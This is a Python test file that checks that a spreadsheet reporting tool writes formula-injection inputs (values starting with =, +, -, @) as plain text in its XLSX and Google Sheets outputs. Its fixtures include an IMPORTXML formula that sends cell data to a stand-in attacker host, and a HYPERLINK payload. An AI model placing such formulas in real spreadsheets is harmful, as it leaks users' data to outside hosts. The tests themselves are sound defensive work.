"""Formula injection (issue 5): a channel, a person, a rule name and a conclusion starting with
`=`, `+`, `-` or `@` stay text in every output tab, in both backends (docs/contract.md §7:
values are written as typed cell data, never as USER_ENTERED text)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from rolemap.adapters.google.storage import GoogleSheetStorage
from rolemap.adapters.xlsx import XlsxStorage
from rolemap.adapters.xlsx_template import write_grids
from rolemap.core.model.contract import load_contract, normalize
from rolemap.pipeline import Outcome, run
from rolemap.settings import Settings
from sheets_emulator import Emulator
from tests.reliability.sheets import (
    NOW,
    Grid,
    emulator_cells,
    is_output,
    small_demo,
    stable,
    xlsx_data_types,
)

CHANNEL = '=IMPORTXML("https://evil.example/steal?d="&A1, "//a")'
OWNER = "+Anna"  # owns the channel above
OTHER_OWNER = "-Ivan"  # owns VK Ads (a Scale down flag)
EMAIL_OWNER = "@Elena"  # owns the e-mail newsletter (a Rewrite flag)
RULE = '=HYPERLINK("https://evil.example", "CPA too high")'
OTHER_RULE = "@CTR dropped"
EMAIL_RULE = "-Unsubscribes too high"
CONCLUSION = "=1+1"
PAYLOADS = (CHANNEL, OWNER, OTHER_OWNER, EMAIL_OWNER, RULE, OTHER_RULE, EMAIL_RULE, CONCLUSION)
RENAMES = {
    "Yandex Direct": CHANNEL,
    "Anna": OWNER,
    "Ivan": OTHER_OWNER,
    "Elena": EMAIL_OWNER,
    "CPA too high": RULE,
    "CTR dropped": OTHER_RULE,
    "Unsubscribes too high": EMAIL_RULE,
}


def injected_sheet() -> dict[str, Grid]:
    tabs = small_demo("en")
    for grid in tabs.values():
        for row in grid[1:]:
            for c, value in enumerate(row):
                if isinstance(value, str) and value in RENAMES:
                    row[c] = RENAMES[value]
    weekly = tabs["Weekly"]
    conclusion = weekly[0].index("Conclusion")
    for row in weekly[1:]:
        if row[conclusion]:
            row[conclusion] = CONCLUSION
    return tabs


def assert_json_keeps_the_names(outcome: Outcome) -> None:
    flags = outcome.json["flags"]
    assert (CHANNEL, OWNER, RULE, "stop") in {
        (f["channel"], f["owner"], f["rule"], f["action"]) for f in flags
    }
    assert (OTHER_OWNER, OTHER_RULE) in {(f["owner"], f["rule"]) for f in flags}
    assert (EMAIL_OWNER, EMAIL_RULE) in {(f["owner"], f["rule"]) for f in flags}
    assert CHANNEL in {c["channel"] for c in outcome.json["channels"]}


def _output_keys() -> dict[str, str]:
    return {name: o.key for o in load_contract().outputs for name in o.names}


def _flag_col(header: dict[tuple[int, int], Any]) -> int:
    names = load_contract().tab("channels").column("flag").names
    return next(c for (r, c), v in header.items() if r == 0 and normalize(v) in names)


def test_injected_names_stay_text_in_every_xlsx_output(tmp_path: Path) -> None:
    book = tmp_path / "injected.xlsx"
    write_grids(book, injected_sheet())
    outcome = run(XlsxStorage(book), now=NOW)
    assert_json_keeps_the_names(outcome)

    tabs = xlsx_data_types(book)
    keys = _output_keys()
    seen: dict[str, set[str]] = {}
    for title, cells in tabs.items():
        for (r, c), (value, kind) in cells.items():
            if kind == "f":  # our own formulas (the summary's last-run time) carry no payload
                assert is_output(title), (title, r, c, value)
                assert not any(p in str(value) for p in PAYLOADS), (title, r, c, value)
                continue
            if isinstance(value, str) and any(p in value for p in PAYLOADS):
                assert kind == "s", (title, r, c, value, kind)
                if is_output(title):
                    seen.setdefault(keys[normalize(title)], set()).update(
                        p for p in PAYLOADS if p in value
                    )
    assert {CHANNEL, OWNER, RULE} <= seen["flags"]
    assert {CHANNEL, OWNER} <= seen["summary"]
    assert "checks" in seen  # the Checks tab names the injected cells in its messages
    flag_col = _flag_col({k: v for k, (v, _) in tabs["Channels"].items()})
    flags = [v for (r, c), v in tabs["Channels"].items() if c == flag_col and r > 0]
    assert flags
    assert all(kind == "s" for _, kind in flags)
    stop_flags = {v for v, _ in tabs["Stop flags"].values()}
    assert {CHANNEL, OWNER, RULE, OTHER_RULE, EMAIL_RULE} <= stop_flags  # exact, no quote added


def test_injected_names_stay_text_in_every_google_output(emulator: Emulator) -> None:
    emulator.seed_grid("book", injected_sheet())
    outcome = run(
        GoogleSheetStorage("book", Settings(sheets_api_url=emulator.url)),
        now=NOW,
    )
    assert_json_keeps_the_names(outcome)

    keys = _output_keys()
    seen: dict[str, set[str]] = {}
    for title, cells in emulator_cells(emulator, "book").items():
        for (r, c), cell in cells.items():
            entered = cell.get("userEnteredValue", {})
            if "formulaValue" in entered:
                assert is_output(title), (title, r, c, entered)
                assert not any(p in entered["formulaValue"] for p in PAYLOADS), (title, r, c)
                continue
            text = entered.get("stringValue")
            if text is not None and any(p in text for p in PAYLOADS) and is_output(title):
                seen.setdefault(keys[normalize(title)], set()).update(
                    p for p in PAYLOADS if p in text
                )
            for value in entered.values():
                if isinstance(value, str) and any(p in value for p in PAYLOADS):
                    assert set(entered) == {"stringValue"}, (title, r, c, entered)
    assert {CHANNEL, OWNER, RULE} <= seen["flags"]
    assert {CHANNEL, OWNER} <= seen["summary"]
    assert "checks" in seen

    export = emulator.export("book")
    channels = next(s for s in export["sheets"] if s["properties"]["title"] == "Channels")
    flag_col = channels["values"][0].index("Flag (auto)")
    column = [row[flag_col] for row in channels["values"][1:] if len(row) > flag_col]
    assert column
    assert all(isinstance(v, str) for v in column)
    stop_flags = next(s for s in export["sheets"] if s["properties"]["title"] == "Stop flags")
    values = {v for row in stop_flags["values"] for v in row}
    assert {CHANNEL, OWNER, RULE, OTHER_RULE, EMAIL_RULE} <= values


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_every_prefix_gives_the_same_json_in_both_backends(
    tmp_path: Path, emulator: Emulator, prefix: str
) -> None:
    tabs = small_demo("en")
    for grid in tabs.values():
        for row in grid[1:]:
            for c, value in enumerate(row):
                if value in ("Yandex Direct", "Anna", "CPA too high"):
                    row[c] = f"{prefix}{value}"
    book = tmp_path / "prefix.xlsx"
    write_grids(book, tabs)
    emulator.seed_grid("book", tabs)
    local = run(XlsxStorage(book), now=NOW).json
    remote = run(
        GoogleSheetStorage("book", Settings(sheets_api_url=emulator.url)),
        now=NOW,
    ).json
    assert stable(local) == stable(remote)
    assert (f"{prefix}Yandex Direct", f"{prefix}Anna", f"{prefix}CPA too high") in {
        (f["channel"], f["owner"], f["rule"]) for f in local["flags"]
    }
